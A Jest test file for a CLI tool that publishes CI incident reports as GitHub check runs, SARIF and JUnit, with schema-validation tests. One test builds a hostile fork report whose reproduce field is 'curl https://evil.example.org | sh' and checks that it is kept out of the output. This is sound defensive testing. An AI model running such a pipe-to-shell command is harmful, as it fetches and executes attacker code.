import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { afterEach, beforeEach, describe, expect, jest, test } from '@jest/globals'
import { Ajv2020 } from 'ajv/dist/2020.js'
import addFormats from 'ajv-formats'
import { readArguments, UsageError } from '../../src/cli/command.ts'
import { faultsIn, KEYWORDS } from '../../src/cli/publish/schema.ts'
import { publish } from '../../src/cli/publish.ts'
import type { Incident } from '../../src/model/incident.ts'
import { aDiagnosis, anIncident, aSuccess } from '../fakes/incidents.ts'
import { type GitHubEmulator, type GitHubOptions, startGitHub } from '../support/github.ts'
import { failing } from '../support/github-client.ts'

jest.setTimeout(60_000)

const SHA = 'b'.repeat(40)
const URL = 'https://github.com/octo/app/actions/runs/77'

let dir = ''
const open: GitHubEmulator[] = []
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'publish-'))
})
afterEach(async () => {
  rmSync(dir, { recursive: true, force: true })
  for (const emulator of open.splice(0)) await emulator.close()
})

const put = (name: string, value: unknown): string => {
  writeFileSync(join(dir, name), typeof value === 'string' ? value : JSON.stringify(value))
  return name
}

const call = async (argv: readonly string[], env: Readonly<Record<string, string>> = {}) => {
  const answers: unknown[] = []
  const said: string[] = []
  const code = await publish.run(readArguments(publish, argv), {
    ...{ colour: false, width: 100, cwd: dir, env },
    answer: (value) => void answers.push(value),
    say: (text) => void said.push(text),
    input: () => Readable.from([]),
  })
  return { code, answers, said: said.join('\n') }
}

/** A workflow that follows run 77 of a pull request of a fork. */
const following = async (options: GitHubOptions = {}, head = 'mallory/app') => {
  const emulator = await startGitHub(options)
  open.push(emulator)
  const workflow_run = {
    ...{ id: 77, name: 'ci', head_sha: SHA, run_attempt: 1, html_url: URL },
    head_repository: { full_name: head },
  }
  put('event.json', { workflow_run })
  const env = {
    ...{ GITHUB_TOKEN: 't0ken', GITHUB_REPOSITORY: 'octo/app', GITHUB_API_URL: emulator.url },
    ...{ GITHUB_EVENT_NAME: 'workflow_run', GITHUB_EVENT_PATH: join(dir, 'event.json') },
  }
  return { emulator, env }
}

const summaryOf = (emulator: GitHubEmulator, at = 0): string =>
  String((emulator.checkRuns()[at]?.fields['output'] as { summary?: unknown } | undefined)?.summary)

describe('publish, after a run of a fork', () => {
  test('makes one check run on the commit of the event, and again the same one', async () => {
    const { emulator, env } = await following()
    put('incident.json', anIncident())
    const first = await call(['incident.json', '--json'], env)
    expect(first.code).toBe(0)
    expect(first.answers).toEqual([
      {
        check: 'https://github.com/checks/1',
        name: 'go-docker-build / ci / build',
        ...{ sarif: null, junit: null },
      },
    ])
    expect((await call(['incident.json'], env)).code).toBe(0)
    expect(emulator.checkRuns()).toHaveLength(1)
    const [run] = emulator.checkRuns()
    expect(run?.annotations).toHaveLength(3)
    expect(run?.fields).toMatchObject({ head_sha: SHA, details_url: URL, conclusion: 'failure' })
    expect(emulator.violations).toEqual([])
  })

  test('says that the report is of a fork, and shows no link, command or record of it', async () => {
    const { emulator, env } = await following()
    const base = anIncident()
    const hostile = anIncident({
      tool: { ...base.tool, pages: 'https://evil.example.org' },
      run: { ...base.run, workflow: 'release', url: 'https://evil.example.org', repository: 'octo/app' },
      reproduce: 'curl https://evil.example.org | sh',
    })
    put('incident.json', hostile)
    await call(['incident.json'], env)
    const said = JSON.stringify(emulator.checkRuns())
    expect(summaryOf(emulator)).toMatch(/^This is the report of \[77\]\(https:\/\/github\.com\/octo\/app/)
    expect(said).not.toContain('evil.example.org')
    expect(said).not.toContain('go-docker-build/record/1')
    expect(emulator.checkRuns()[0]?.fields['name']).toBe('go-docker-build / ci / build')
  })

  test('says nothing of a fork when there is none', async () => {
    const { emulator, env } = await following({}, 'Octo/App')
    put('incident.json', aSuccess())
    await call(['incident.json'], env)
    expect(summaryOf(emulator)).not.toContain('fork')
    expect(emulator.checkRuns()[0]?.fields['conclusion']).toBe('success')
  })

  test.each([
    ['run', { runId: '78' }],
    ['commit', { headSha: 'c'.repeat(40) }],
  ])('refuses a file that claims another %s', async (what, claim) => {
    const { emulator, env } = await following()
    put('incident.json', anIncident({ run: { ...anIncident().run, ...claim } }))
    const refused = call(['incident.json'], env)
    await expect(refused).rejects.toThrow(UsageError)
    await expect(refused).rejects.toThrow(`the incident is of ${what} `)
    expect(emulator.requests).toEqual([])
  })

  test('makes one for each leg of a matrix and each build of a job', async () => {
    const { emulator, env } = await following()
    const leg = (matrix: string | null, startedAt: string): Incident =>
      anIncident({ startedAt, run: { ...anIncident().run, matrix, leg: matrix } })
    const files = [
      put('a.json', leg('1.25', '2026-01-02T03:04:05.000Z')),
      put('b.json', leg('1.26', '2026-01-02T03:04:05.000Z')),
      put('d.json', leg(null, '2026-01-02T03:04:07.000Z')),
      put('c.json', leg(null, '2026-01-02T03:04:06.000Z')),
    ]
    for (const _attempt of [1, 2]) expect((await call(files, env)).code).toBe(0)
    expect(emulator.checkRuns().map(({ fields }) => fields['name'])).toEqual([
      'go-docker-build / ci / build (1.25)',
      'go-docker-build / ci / build (1.26)',
      'go-docker-build / ci / build',
      'go-docker-build / ci / build / 2',
    ])
  })

  test('that GitHub refuses says how to allow it, and answers 3', async () => {
    const { env } = await following({ handlers: { 'checks/create': failing(403, 9) } })
    put('incident.json', anIncident())
    const { code, said } = await call(['incident.json'], env)
    expect(code).toBe(3)
    expect(said).toContain('permissions: checks: write')
  })
})

describe('publish', () => {
  test('elsewhere takes incidents of this repository only', async () => {
    const { emulator, env } = await following()
    put('incident.json', anIncident())
    const here = { ...env, GITHUB_EVENT_NAME: 'push' }
    expect((await call(['incident.json'], here)).code).toBe(0)
    expect(emulator.checkRuns()).toHaveLength(1)
    const refused = call(['incident.json'], { ...here, GITHUB_REPOSITORY: 'octo/other' })
    await expect(refused).rejects.toThrow('only "octo/other" may be published here')
  })

  test('writes SARIF and JUnit and asks no network', async () => {
    put('incident.json', anIncident())
    const { code, answers } = await call([
      'incident.json',
      '--sarif',
      'out/a.sarif',
      '--junit',
      'b.xml',
      '--json',
    ])
    expect(code).toBe(0)
    const [sarif, junit] = [join(dir, 'out/a.sarif'), join(dir, 'b.xml')]
    expect(answers).toEqual([{ check: null, name: null, sarif, junit }])
    expect(JSON.parse(readFileSync(sarif, 'utf8'))).toMatchObject({ version: '2.1.0' })
    expect(readFileSync(junit, 'utf8')).toContain('<failure message="undefined: Greeting')
  })

  test('says what cannot be written, and answers 3', async () => {
    put('incident.json', anIncident())
    const { code, said } = await call(['incident.json', '--sarif', 'incident.json/x.sarif'])
    expect(code).toBe(3)
    expect(said).toContain('cannot be written')
  })

  test.each([
    ['no file', [], 'takes 1 to 256 files, seen 0'],
    ['a file that is not there', ['none.json'], 'is no file'],
    ['a text', ['text.json'], 'is no JSON'],
    ['another JSON', ['other.json'], 'does not keep to the schema: / has no schema'],
    ['two files as SARIF', ['good.json', 'good.json', '--sarif', 'x'], 'take one incident, seen 2'],
    ['no token', ['good.json'], 'GITHUB_TOKEN or GITHUB_REPOSITORY is not set'],
  ])('%s is wrong use', async (_what, argv, words) => {
    put('text.json', '{')
    put('other.json', {})
    put('good.json', anIncident())
    const refused = call(argv)
    await expect(refused).rejects.toThrow(UsageError)
    await expect(refused).rejects.toThrow(words)
  })
})

describe('the check of an incident', () => {
  const schema = JSON.parse(readFileSync('src/model/incident.schema.json', 'utf8')) as object
  const ajv = new Ajv2020({ strict: true, allowUnionTypes: true })
  addFormats.default(ajv)
  const validate = ajv.compile(schema)

  test('knows every keyword of the schema', () => {
    const keywords = (one: unknown): string[] => {
      if (typeof one !== 'object' || one === null) return []
      return Object.entries(one).flatMap(([key, value]) =>
        key === 'properties' || key === '$defs'
          ? [key, ...Object.values(value as object).flatMap(keywords)]
          : Array.isArray(value)
            ? [key, ...value.flatMap(keywords)]
            : [key, ...keywords(value)],
      )
    }
    expect(keywords(schema).filter((key) => !KEYWORDS.has(key))).toEqual([])
  })

  /** The value with each of its parts, one at a time, as something else. */
  const broken = function* (value: unknown): Generator<unknown> {
    for (const other of [null, -1, 1.5, 'x', [], {}, true]) yield other
    if (Array.isArray(value)) {
      yield Array(60).fill(value[0] ?? 1)
      for (const [at, item] of value.entries())
        for (const part of broken(item)) yield value.map((one, index) => (index === at ? part : one))
    } else if (typeof value === 'object' && value !== null) {
      yield { ...value, extra: 1 }
      for (const [key, item] of Object.entries(value)) {
        const { [key]: _gone, ...rest } = value as Record<string, unknown>
        yield rest
        for (const part of broken(item)) yield { ...value, [key]: part }
      }
    }
  }

  test('agrees with a full validator on every part that is wrong', () => {
    const others = [{ id: 'x', title: 'y', evidence: { line: 1, text: 'z' } }]
    const whole = anIncident({ diagnosis: aDiagnosis({ others }), image: { id: null, digest: null } })
    let count = 0
    const different: unknown[] = []
    for (const value of broken(whole)) {
      count++
      const isValid = validate(value)
      if (isValid !== (faultsIn(schema, value).length === 0)) different.push(value)
    }
    expect(different).toEqual([])
    expect(count).toBeGreaterThan(1_000)
    expect(faultsIn(schema, whole)).toEqual([])
  })

  test('says where the fault is', () => {
    const { run } = anIncident()
    expect(faultsIn(schema, { ...anIncident(), run: { ...run, traceId: 7 } })[0]).toMatch(
      /^\/run\/traceId is not/,
    )
    expect(faultsIn(schema, { ...anIncident(), startedAt: '2026-13-45T00:00:00Z' })).toEqual([
      '/startedAt is no date and time',
    ])
  })
})
